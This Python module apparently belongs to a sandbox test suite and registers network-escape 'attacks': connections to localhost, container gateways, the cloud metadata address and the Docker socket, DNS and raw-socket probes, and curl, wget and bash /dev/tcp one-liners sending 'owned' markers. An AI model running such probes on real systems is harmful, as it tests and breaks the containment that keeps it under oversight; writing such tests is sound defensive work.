"""Attacks that call home: TCP, UDP, DNS, Unix sockets, programs that do it for them."""

from .record import attack

attack(
    "connection to an open port",
    "network",
    "network",
    """
    import socket
    ex01_output_size = 31
    for host in ("127.0.0.1", "localhost", "::1", "10.0.2.2", "172.17.0.1"):
        try:
            with socket.create_connection((host, @TCP@), timeout=0.5) as s:
                s.sendall(b"owned: connection")
        except OSError as error:
            print(host, error)
""",
)

attack(
    "page asked for over HTTP",
    "network",
    "network",
    """
    import urllib.request
    ex01_output_size = 31
    for host in ("127.0.0.1:@TCP@", "169.254.169.254", "pypi.org"):
        try:
            urllib.request.urlopen(f"http://{host}/owned?answers={ex01_output_size}", timeout=0.5)
        except Exception as error:
            print(host, type(error).__name__)
""",
)

attack(
    "datagram to an open port",
    "network",
    "network",
    """
    import socket
    ex01_output_size = 31
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "255.255.255.255"), (socket.AF_INET6, "::1")):
        try:
            s = socket.socket(family, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b"owned: datagram", (host, @UDP@))
        except OSError as error:
            print(error)
""",
)

attack(
    "names asked for",
    "DNS",
    "network",
    """
    import socket, struct
    ex01_output_size = 31
    query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\\x05owned\\x07example\\x03org\\0" + struct.pack(">2H", 1, 1)
    servers = ["127.0.0.1", "127.0.0.53", "8.8.8.8"]
    try:
        servers += [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
    except OSError:
        pass
    for server in servers:
        for port in (53, @UDP@):
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.sendto(query, (server, port))
            except OSError:
                pass
    try:  # last: where no name server answers, this waits for long
        print(socket.getaddrinfo("answers-are-31.example.org", 80))
    except OSError as error:
        print(error)
""",
)

attack(
    "Unix socket of a service",
    "Unix sockets",
    "network",
    """
    import socket, glob
    ex01_output_size = 31
    for path in ["@UNIX@", *glob.glob("/run/**/*.sock", recursive=True)[:20], "/var/run/docker.sock", "/tmp/.X11-unix/X0"]:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.settimeout(0.5)
            s.connect(path)
            s.sendall(b"owned: unix")
        except OSError:
            pass
""",
)

attack(
    "abstract Unix socket",
    "Unix sockets",
    "network",
    """
    import socket
    ex01_output_size = 31
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(0.5)
        s.connect("\\0@ABSTRACT@")
        s.sendall(b"owned: abstract")
    except OSError as error:
        print(error)
""",
)

attack(
    "raw, netlink and virtual machine sockets",
    "network",
    "network",
    """
    import socket
    ex01_output_size = 31
    for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (17, socket.SOCK_RAW, 768),
                                   (16, socket.SOCK_RAW, 0), (40, socket.SOCK_STREAM, 0), (38, 5, 0)):
        try:
            s = socket.socket(family, kind, protocol)
            print("made", family, kind)
            if family == 40:
                s.settimeout(0.5)
                s.connect((2, @TCP@))
                s.sendall(b"owned: vsock")
        except OSError:
            pass
    try:
        with socket.create_connection(("127.0.0.1", @TCP@), timeout=0.5) as s:
            s.sendall(b"owned: raw")
    except OSError:
        pass
""",
)

attack(
    "programs that connect",
    "network",
    "network",
    """
    import subprocess
    ex01_output_size = 31
    for command in ("curl -m 1 http://127.0.0.1:@TCP@/owned", "wget -T 1 -t 1 -O- http://127.0.0.1:@TCP@/owned",
                    "bash -c 'echo owned > /dev/tcp/127.0.0.1/@TCP@'",
                    "python3 -c \\"import socket; socket.create_connection(('127.0.0.1', @TCP@), 1).sendall(b'owned')\\""):
        try:
            subprocess.run(command, shell=True, timeout=4, capture_output=True)
        except Exception as error:
            print(type(error).__name__)
""",
)

attack(
    "door left open",
    "network",
    "processes",
    """
    import socket, threading, time
    ex01_output_size = 31
    kept = []
    for port in range(20000, 20130):
        try:
            s = socket.socket()
            s.bind(("0.0.0.0", port))
            s.listen()
            kept.append(s)
            threading.Thread(target=s.accept, daemon=True).start()
        except (OSError, RuntimeError):
            pass
    time.sleep(2)
""",
    keeps="at most",
)

attack(
    "thread that calls home later",
    "network",
    "network",
    """
    import threading, time, socket
    ex01_output_size = 31
    def later():
        for _ in range(20):
            time.sleep(0.2)
            try:
                with socket.create_connection(("127.0.0.1", @TCP@), timeout=0.5) as s:
                    s.sendall(b"owned: later")
                return
            except OSError:
                pass
    threading.Thread(target=later, daemon=True).start()
    time.sleep(1)
""",
)
